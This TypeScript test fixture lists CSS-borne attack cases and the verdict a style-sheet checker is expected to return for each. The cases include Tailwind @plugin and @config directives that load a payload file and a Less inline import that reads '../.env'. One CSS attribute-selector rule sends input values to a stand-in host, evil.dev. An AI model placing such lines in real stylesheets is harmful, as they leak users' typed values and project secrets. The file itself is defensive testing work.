/** Style sheets that run code, or read or load other files. */
import { ran, type Vehicle } from './vehicle.ts';

const sheet = (text: string): Readonly<Record<string, string>> => ({
  'client/pages/x/a.css': `${text}\n`,
  'client/data/payload': ran,
});

export const styles: readonly Vehicle[] = [
  {
    what: '`@plugin` and a file without extension',
    tool: 'Tailwind',
    files: sheet('@plugin "../../data/payload";'),
    loader: 'tailwind',
    refused: 'JUDGE_CSS_CODE',
  },
  {
    what: '`@config`',
    tool: 'Tailwind',
    files: sheet('@config "../../data/payload";'),
    loader: 'tailwind',
    refused: 'JUDGE_CSS_CODE',
  },
  {
    what: '`@plugin` in text that the query `?&lang.css` loads',
    tool: 'Vite, Tailwind',
    files: { 'client/a.txt': '@plugin "./b";\n', 'client/b': ran },
    loader: 'tailwind',
    refused: 'JUDGE_CSS_CODE',
  },
  {
    what: 'Sass, Less and Stylus files',
    tool: 'Vite',
    files: { 'client/a.less': '@import (inline) "../.env";\n' },
    loader: 'vite preprocessor',
    refused: 'JUDGE_CSS_DIALECT',
  },
  {
    what: '`@source` outside the plugin',
    tool: 'Tailwind',
    files: { 'client/a.css': '@source "../..";\n' },
    loader: 'tailwind source',
    refused: 'JUDGE_CSS_SOURCE',
  },
  {
    what: 'remote `@import`',
    tool: 'browsers',
    files: { 'client/a.css': '@import url("https://evil.dev/a.css");\n' },
    loader: 'browser',
    reported: ['network'],
  },
  {
    what: 'remote `url()`',
    tool: 'browsers',
    files: { 'client/a.css': 'input[value^="a"] { background: url(//evil.dev/a); }\n' },
    loader: 'browser',
    reported: ['network'],
  },
  {
    what: '`url()` of a secret file',
    tool: 'Vite',
    files: { 'client/a.css': '.a { background: url(../.env); }\n' },
    loader: 'vite secret',
    reported: ['nonModules'],
  },
];
